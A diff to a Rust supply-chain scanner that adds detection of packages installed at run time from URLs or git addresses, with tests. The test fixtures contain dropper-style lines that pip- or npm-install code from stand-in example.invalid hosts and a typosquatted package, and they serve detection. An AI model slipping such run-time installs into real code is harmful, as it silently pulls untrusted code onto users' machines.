@@ -1,6 +1,7 @@
 //! Packages installed at run time (`pip install`, `python -m pip install`, `npm install`, `yarn add`,
-//! `pnpm add`, as a command string or an argv list) whose names imitate popular packages. A dropper that
-//! cannot put a typosquat in its own dependencies installs it from code; the package-name checker
+//! `pnpm add`, as a command string or an argv list) whose names imitate popular packages, or that are
+//! fetched from an address instead of a registry. A dropper that cannot put a typosquat (or a look-alike
+//! download host) in its own dependencies installs it from code; the package-name checker
 //! (`package_name.rs`) judges each name.
 
 use super::package_name::{lookalike, Ecosystem};
@@ -41,8 +42,100 @@ static ARGV: LazyLock<Regex> = LazyLock::new(|| {
 static QUOTED: LazyLock<Regex> =
     LazyLock::new(|| ascii_regex(r#"['"]([^'"\n]+)['"]"#).expect("quoted pattern"));
 
+/// Packages installed at run time straight from an address (`pip install https://…/x.tar.gz`,
+/// `git+https://…`, `npm install https://…/x.tgz`): outside any registry, whatever the name.
+pub(crate) static INSTALL_FROM_URL: FileDetector = FileDetector {
+    literals: &["install", "yarn", "pnpm"],
+    run: find_url_installs,
+};
+
 fn find_installs(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
     let body = segment.text(text);
+    for (start, end, ecosystem, words) in install_commands(body) {
+        for word in words.iter().take(MAX_NAMES) {
+            let Some(name) = package_name(word, ecosystem) else {
+                continue;
+            };
+            let Some(imitated) = lookalike(ecosystem, &name) else {
+                continue;
+            };
+            let hit = Hit {
+                start: segment.start + start,
+                end: segment.start + end,
+                detail: Some(Box::new(HitDetail {
+                    message: format!("installs at run time: {}", imitated.describe(&name)),
+                    related: Vec::new(),
+                })),
+            };
+            if !keep(hit) {
+                return;
+            }
+        }
+    }
+}
+
+fn find_url_installs(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
+    let body = segment.text(text);
+    for (start, end, _, words) in install_commands(body) {
+        let Some(address) = words.iter().take(MAX_NAMES).find_map(|w| remote_source(w)) else {
+            continue;
+        };
+        if !runs_on_its_line(body, start) {
+            continue;
+        }
+        let hit = Hit {
+            start: segment.start + start,
+            end: segment.start + end,
+            detail: Some(Box::new(HitDetail {
+                message: format!("installs at run time from outside the registry: `{address}`"),
+                related: Vec::new(),
+            })),
+        };
+        if !keep(hit) {
+            return;
+        }
+    }
+}
+
+/// Calls that run a command: an install command on their line is run, not quoted in a message
+/// (`raise ImportError("pip install git+https://…")` is advice to the user).
+const RUNNERS: &[&str] = &[
+    "system(",
+    "popen(",
+    "Popen(",
+    "run(",
+    "call(",
+    "check_output(",
+    "getoutput(",
+    "exec(",
+    "execSync(",
+    "spawn(",
+    "spawnSync(",
+    "execa(",
+    "[",
+];
+
+fn runs_on_its_line(body: &str, at: usize) -> bool {
+    let line_start = body[..at].rfind('\n').map_or(0, |i| i + 1);
+    let line_end = body[at..].find('\n').map_or(body.len(), |i| at + i);
+    let line = &body[line_start..line_end];
+    RUNNERS.iter().any(|r| line.contains(r))
+}
+
+/// An install argument that is an address to fetch (`https://…`, `http://…`, `git+…://…`, `name @ https://…`
+/// is one word per part, so only the address is seen).
+fn remote_source(word: &str) -> Option<&str> {
+    let word = word.split('\\').next().unwrap_or_default();
+    let word = word.trim_matches(|c| matches!(c, ',' | '\'' | '"'));
+    let lower = word.get(..12).unwrap_or(word).to_ascii_lowercase();
+    let remote = lower.starts_with("https://")
+        || lower.starts_with("http://")
+        || (lower.starts_with("git+") && word.contains("://"));
+    (remote && word.len() > 10).then_some(word)
+}
+
+/// The install commands of a text, as (start, end, ecosystem, argument words), in order.
+fn install_commands(body: &str) -> Vec<(usize, usize, Ecosystem, Vec<String>)> {
     let mut commands: Vec<(usize, usize, Ecosystem, Vec<String>)> = Vec::new();
     for c in COMMAND.captures_iter(body).take(MAX_COMMANDS) {
         let (Some(whole), Some(tool), Some(args)) = (c.get(0), c.get(1), c.get(3)) else {
@@ -79,27 +172,7 @@ fn find_installs(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> boo
         ));
     }
     commands.sort_by_key(|c| c.0);
-    for (start, end, ecosystem, words) in commands {
-        for word in words.iter().take(MAX_NAMES) {
-            let Some(name) = package_name(word, ecosystem) else {
-                continue;
-            };
-            let Some(imitated) = lookalike(ecosystem, &name) else {
-                continue;
-            };
-            let hit = Hit {
-                start: segment.start + start,
-                end: segment.start + end,
-                detail: Some(Box::new(HitDetail {
-                    message: format!("installs at run time: {}", imitated.describe(&name)),
-                    related: Vec::new(),
-                })),
-            };
-            if !keep(hit) {
-                return;
-            }
-        }
-    }
+    commands
 }
 
 /// Words that continue a sentence after an install command quoted in prose or a comment.
@@ -176,6 +249,36 @@ mod tests {
         assert!(found[0].contains("`requests`"), "{found:?}");
         let js = "require('child_process').execSync('npm install --no-save expresss@4');\n";
         assert_eq!(installs(js, Language::Javascript, "lib/x.js").len(), 1);
+    }
+
+    fn url_installs(text: &str, language: Language, path: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        for segment in segment_file(text, language, path) {
+            find_url_installs(&segment, text, &mut |hit| {
+                out.push(hit.detail.map(|d| d.message).unwrap_or_default());
+                true
+            });
+        }
+        out
+    }
+
+    #[test]
+    fn installs_from_an_address_are_found_and_registry_names_are_not() {
+        let py = "import os, sys\nos.system(f\"{sys.executable} -m pip install https://files.example.invalid/p/colour-1.0.tar.gz\")\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'git+https://git.example.invalid/x/y.git'])\n";
+        let found = url_installs(py, Language::Python, "pkg/__init__.py");
+        assert_eq!(found.len(), 2, "{found:?}");
+        assert!(
+            found[0].contains("https://files.example.invalid/p/colour-1.0.tar.gz"),
+            "{found:?}"
+        );
+        let js = "require('child_process').execSync('npm install --no-save https://x.example.invalid/a.tgz');\n";
+        assert_eq!(url_installs(js, Language::Javascript, "lib/x.js").len(), 1);
+        let quiet = "os.system('pip install requests numpy>=1.26 -i https')\nsubprocess.run(['pip', 'install', '-r', 'requirements.txt'])\nos.system('pip install ./vendor/x-1.0.tar.gz')\nraise ImportError('the extra needs: pip install git+https://git.example.invalid/x/y.git')\n";
+        assert!(
+            url_installs(quiet, Language::Python, "pkg/x.py").is_empty(),
+            "{:?}",
+            url_installs(quiet, Language::Python, "pkg/x.py")
+        );
     }
 
     #[test]
